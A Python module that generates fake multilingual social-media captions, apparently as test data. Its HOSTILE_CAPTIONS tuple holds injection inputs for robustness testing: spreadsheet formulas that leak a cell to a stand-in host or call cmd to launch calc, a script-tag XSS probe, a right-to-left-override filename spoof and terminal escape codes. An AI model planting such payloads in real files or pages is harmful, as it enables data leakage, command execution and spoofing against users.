"""Captions of the made-up posts, in several languages and scripts.

A caption is a phrase around a topic, and an ending. Each author writes in one language.
"""

from __future__ import annotations

from typing import Final, NamedTuple

#: Valid captions that careless programs fail on: formulas, markup, control characters, scripts.
HOSTILE_CAPTIONS: Final = (
    '=HYPERLINK("https://example.com/?leak="&A1,"prize")',
    "+1 for this [/b] [link=https://example.com]click[/link]",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('caption')</script><b>bold</b> & \"quotes\"",
    "first line\nsecond line\r\nthird\tline",
    "مرحبا بالعالم – وصفة اليوم",
    "שלום \u202etxt.exe\u202c עולם",
    "👩\u200d👩\u200d👧\u200d👦 family 🏳️\u200d🌈 day",
    "\u001b[31mred\u001b[0m and a bell \u0007",
    "zero\u200bwidth, e\u0301 combining, ｆｕｌｌ ｗｉｄｔｈ, İstanbul ß",
    "-2+3+cmd, \"a\",'b';c",
    "日本語のキャプション、とても長い" * 8,
)


class _Language(NamedTuple):
    openings: tuple[str, ...]
    topics: tuple[str, ...]


_ENGLISH = _Language(
    (
        "{}, step by step", "{} in 60 seconds", "first try: {}", "why I gave up {}", "POV: {}",
        "{} without the fuss", "honest take: {}", "my mistakes with {}", "come along: {}",
        "{} on a budget", "a year of {}", "behind the scenes: {}", "{} for beginners",
        "{}: worth it?", "{} gone wrong", "back to {}",
    ),
    (
        "sourdough", "a morning routine", "street food", "bike repair", "film photography",
        "balcony herbs", "overnight oats", "a tiny kitchen", "marathon training", "hand lettering",
        "cold brew", "a one pan dinner", "night rides", "pottery", "visible mending",
        "trail running", "houseplants", "budget travel", "a capsule wardrobe", "home espresso",
        "watercolour", "knife sharpening", "a tidy desk", "dumplings", "vintage denim",
        "city walks", "camp cooking", "lino printing", "kettlebells", "bouldering", "market days",
        "natural dyeing", "long exposures", "thrifted lamps", "fresh pasta", "stretching", "kimchi",
        "a rainy hike", "loop pedals", "train sketches",
    ),
)  # fmt: skip
_OTHERS = (
    _Language(  # Spanish
        (
            "{} paso a paso", "{} en 60 segundos", "mi primera vez con {}", "un año de {}",
            "{} para principiantes", "mis errores con {}",
        ),
        (
            "pan de masa madre", "café de especialidad", "fotografía analógica", "cerámica",
            "senderismo", "croquetas caseras", "ropa de segunda mano", "plantas de interior",
        ),
    ),
    _Language(  # Portuguese
        (
            "{} passo a passo", "{} em 60 segundos", "minha primeira vez com {}", "um ano de {}",
            "{} para iniciantes", "meus erros com {}",
        ),
        (
            "pão caseiro", "café coado", "fotografia analógica", "cerâmica", "trilhas",
            "pão de queijo", "roupas de brechó", "plantas em casa",
        ),
    ),
    _Language(  # French
        (
            "{} étape par étape", "{} en 60 secondes", "premier essai : {}",
            "{} pour débutants", "dans les coulisses : {}", "petit budget : {}",
        ),
        (
            "pain au levain", "café filtre", "photo argentique", "poterie", "randonnée",
            "tarte aux pommes", "trouvailles en friperie", "plantes d'intérieur",
        ),
    ),
    _Language(  # German
        (
            "{} Schritt für Schritt", "{} in 60 Sekunden", "erster Versuch: {}",
            "{} für Anfänger", "ein Jahr {}", "ehrliche Meinung: {}",
        ),
        (
            "Sauerteigbrot", "Filterkaffee", "Analogfotografie", "Töpfern", "Bergwandern",
            "Käsespätzle", "Flohmarktfunde", "Zimmerpflanzen",
        ),
    ),
    _Language(  # Japanese
        (
            "{}のコツ", "60秒で{}", "初めての{}", "{}の一日", "失敗しない{}", "{}を始めて一年",
        ),
        (
            "パン作り", "手挽きコーヒー", "フィルム写真", "陶芸", "山歩き", "手作り餃子", "古着",
            "観葉植物",
        ),
    ),
    _Language(  # Korean
        (
            "60초 {}", "초보를 위한 {}", "처음 해 본 {}", "{} 꿀팁", "{} 브이로그", "{} 1년 후기",
        ),
        (
            "사워도우", "핸드드립 커피", "필름 사진", "도자기", "등산", "손만두", "빈티지 쇼핑",
            "반려식물",
        ),
    ),
    _Language(  # Arabic
        (
            "{} خطوة بخطوة", "{} في ٦٠ ثانية", "تجربتي الأولى مع {}", "{} للمبتدئين",
            "سنة كاملة مع {}", "أسرار {}",
        ),
        (
            "الخبز البيتي", "القهوة المختصة", "التصوير الفيلمي", "الخزف", "المشي في الجبال",
            "ورق العنب", "الملابس المستعملة", "نباتات المنزل",
        ),
    ),
    _Language(  # Hindi
        (
            "60 सेकंड में {}", "पहली बार {}", "{} के राज़", "{} का एक साल", "{}, आसान तरीका",
            "शुरुआत से सीखें: {}",
        ),
        (
            "घर की रोटी", "फ़िल्टर कॉफ़ी", "फ़िल्म फ़ोटोग्राफ़ी", "मिट्टी के बर्तन",
            "पहाड़ी ट्रेक", "मोमो", "पुराने कपड़े", "घर के पौधे",
        ),
    ),
    _Language(  # Russian
        (
            "{} шаг за шагом", "{} за 60 секунд", "первый раз: {}", "{} для начинающих",
            "год спустя: {}", "честно: {}",
        ),
        (
            "хлеб на закваске", "кофе в турке", "плёночные снимки", "керамика", "поход в горы",
            "домашние пельмени", "вещи с барахолки", "комнатные растения",
        ),
    ),
)  # fmt: skip
#: Languages by an author's number; most authors write in English.
_LANGUAGES: Final = (*[_ENGLISH] * len(_OTHERS), *_OTHERS)
_TAILS = (
    "", "", "", "", "", " 🎉", " #fyp", " – part 2", " 🔥🔥", " (sound on)", " #reels", " ✨", "!",
    " 👇", " #daily", " | link in bio",
)  # fmt: skip
_TAILS_OF_OTHERS = ("", "", " 🎉", " #fyp", " 🔥🔥", " #reels", " ✨", " 👇")


def _capital(text: str) -> str:
    return text[0].upper() + text[1:]


_BEGINNINGS = {
    language: tuple(
        _capital(opening.format(topic))
        for opening in language.openings
        for topic in language.topics
    )
    for language in _LANGUAGES
}


def caption(author: int, a: int, b: int) -> str:
    """The caption that two numbers choose, in the language that the author's number chooses."""
    language = _LANGUAGES[author % len(_LANGUAGES)]
    openings, topics = len(language.openings), len(language.topics)
    tails = _TAILS if language is _ENGLISH else _TAILS_OF_OTHERS
    beginning = _BEGINNINGS[language][a % openings * topics + b % topics]
    return beginning + tails[(a >> 8) % len(tails)]
